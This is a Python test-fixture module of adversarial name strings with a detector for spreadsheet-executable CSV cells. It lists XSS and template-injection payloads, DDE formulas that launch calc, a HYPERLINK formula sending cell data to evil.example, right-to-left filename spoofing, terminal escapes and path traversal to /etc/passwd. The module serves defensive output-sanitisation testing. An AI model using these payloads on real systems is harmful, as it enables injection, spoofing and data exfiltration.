"""Texts that are something else in one sink or another: markup, formulas, directions, terminals, paths, templates.

Belongs here: the corpus of names, and telling whether a cell of a CSV is one that a spreadsheet runs. Does not belong
here: HTTP (`corpus`), who is called so (`named_world`).
"""

from __future__ import annotations

import re
from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    "\"' autofocus onfocus=alert(1) x='",
    "<img src=x onerror=alert(1)>",
    "</title></textarea></noscript></style></select><svg onload=alert(1)>",
    "<a href=http://evil.example/>x</a><base href=//evil.example>",
    "javascript:alert(1)//",
    "&lt;b&gt;&#60;i&#62;",
    "{{7*7}}${7*7}{%raw%}#{7*7}<%=7*7%>",
    "datum['x']||event.view.alert(1)",
    "@ink",
    "url(http://evil.example/x.css)",
)
"""What a browser, a template or a chart might take for its own language."""
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    '"=1+1',
    "'=1+1",
    'x;=HYPERLINK("http://evil.example/")',
    'x";=1+1;"',
    "x\t=1+1",
    "x\n=1+1",
)
"""What a spreadsheet might run: at once, after what it skips, or where it cuts cells apart elsewhere than we do."""
TURNED: Final = (
    "\u202efdp.exe",
    "\u2066\u2067moc.live\u2069",
    "a\u200bb\u200dc\u2060d",
    "\u0645\u0634\u0631\u0648\u0639 \u200f\u05d0\u05d1\u05d2",
    "Z" + "\u0351\u036f\u0488" * 30,
    "\x1b[31mred\x1b]0;title\x07\x9b31m",
    "a\x08\x08b\x7f",
    "line\u2028sep\u2029par",
)
"""What turns round, hides or overprints the text beside it."""
ODD: Final = (
    "../../../etc/passwd",
    "a?b=c&d#e%2f/..;",
    "__proto__",
    "constructor",
    "W" * 255,
    "\U0001f3f3\ufe0f\u200d\U0001f308 plain",
)
NAMES: Final = (*MARKUP, *FORMULAS, *TURNED, *ODD)
"""What the wire takes for the name of a project or a model: anything but NUL and lone surrogates, 255 characters."""
TYPED: Final = tuple(name for name in NAMES if name.isprintable() and name == name.strip() and len(name) <= 200)
"""Those that people may type into forms of ours, which refuse what cannot be seen."""

_STARTS: Final = r"=+\-@\uff1d\uff0b\uff0d\uff20"
_SKIPPED: Final = r"[\s\x00-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2069\ufeff\"]*"
_RUN: Final = re.compile(rf"(?:\A|[;|\t\r\n]){_SKIPPED}[{_STARTS}]")
_NUMBER: Final = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def is_run(cell: str) -> bool:
    """Tell whether a spreadsheet might run a cell: whichever delimiter it cuts at, whatever it skips before.

    Numbers are none: a minus before digits alone is a value.
    """
    return _RUN.search(cell) is not None and _NUMBER.fullmatch(cell) is None
